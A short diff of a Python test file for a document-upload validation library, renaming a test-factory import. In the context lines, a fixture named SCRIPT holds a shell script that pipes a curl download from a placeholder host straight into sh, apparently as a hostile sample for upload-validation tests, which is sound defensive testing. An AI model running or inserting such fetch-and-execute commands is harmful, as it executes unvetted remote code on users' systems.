@@ -21,7 +21,7 @@ from resources import archives, uploads
 from resources.contents import checksum, look_into
 from resources.formats import MEDIA_TYPES, charset
 from resources.uploads import validate_document
-from tests.documents import OFFICE, archive, epub, office, pdf, stored, upload
+from tests.factories import OFFICE, archive, epub, office, pdf, stored, upload
 
 PDF = pdf()
 SCRIPT = b"#!/bin/sh\ncurl https://example.org/ | sh\n"
